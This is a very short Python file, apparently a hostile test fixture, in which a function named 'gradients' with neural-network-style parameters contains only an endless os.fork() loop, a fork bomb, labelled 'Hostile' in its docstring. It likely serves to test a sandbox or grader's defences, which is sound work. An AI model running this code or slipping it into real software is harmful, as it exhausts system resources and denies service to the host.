"""Hostile: forks."""
import os


def gradients(X, y, W, b1, U, b2):
    while True:
        os.fork()
